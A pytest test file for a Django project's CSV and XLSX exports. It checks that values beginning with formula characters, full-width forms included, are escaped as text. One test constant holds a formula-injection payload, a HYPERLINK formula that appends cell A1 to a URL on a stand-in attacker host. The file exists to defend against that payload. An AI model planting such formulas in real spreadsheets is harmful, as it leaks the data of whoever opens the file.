"""One formula-neutralising rule for every CSV and XLSX the project writes, the
admin's import-export included: a committee member named ``=HYPERLINK(...)`` is text
in every export, never a live formula."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

import sar.resources
import sar.synthesis.xlsx
import schools.resources
import supervision.spreadsheet
from iqa_district import spreadsheets
from iqa_district.spreadsheets import FORMULA_PREFIXES, neutralise, unneutralise
from tests.supervision.factories import CommitteeFactory, CommitteeMemberFactory

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_every_prefix_is_neutralised_and_comes_back(prefix):
    value = prefix + "1+1"
    assert neutralise(value) == "'" + value
    assert unneutralise(neutralise(value)) == value


def test_plain_values_are_untouched():
    assert neutralise("โรงเรียนบ้านหนองไผ่") == "โรงเรียนบ้านหนองไผ่"
    assert neutralise(12) == 12
    assert neutralise(None) is None
    assert unneutralise("'ปกติ") == "'ปกติ"


@pytest.mark.parametrize(
    "module", [schools.resources, sar.resources, sar.synthesis.xlsx, supervision.spreadsheet]
)
def test_every_export_uses_the_one_function(module):
    assert module.neutralise is spreadsheets.neutralise
    assert len(FORMULA_PREFIXES) == 11


def test_escape_formulae_setting_is_on(settings):
    assert settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is True


def test_committee_member_with_a_formula_name_exports_as_text(admin_client, office):
    committee = CommitteeFactory(area_office=office)
    CommitteeMemberFactory(committee=committee, name=EVIL, organisation="＝1+1")
    url = reverse("admin:supervision_committeemember_export")
    form = admin_client.get(url)
    assert form.status_code == 200
    fields = {
        name: "on"
        for name in form.content.decode().split('name="')[1:]
        for name in [name.split('"')[0]]
        if name.startswith("committeememberresource_")
    }
    formats = form.context["form"].fields["format"].choices
    xlsx = next(value for value, label in formats if "xlsx" in str(label).lower())
    response = admin_client.post(url, {"format": xlsx, "resource": 0, **fields})
    assert response.status_code == 200, response.content[:500]
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row}
    assert "'" + EVIL in cells and cells["'" + EVIL].data_type == "s"
    assert "'＝1+1" in cells
    assert not any(isinstance(v, str) and v.startswith("=") for v in cells)


def test_school_export_neutralises_full_width_forms(as_user, district_admin, school):
    school.director_name = "＋HYPERLINK(1)"
    school.phone = "-1+2"
    school.save()
    response = as_user(district_admin).get(reverse("schools:export"), {"file_format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    flat = [value for row in rows for value in row]
    assert "'＋HYPERLINK(1)" in flat and "'-1+2" in flat
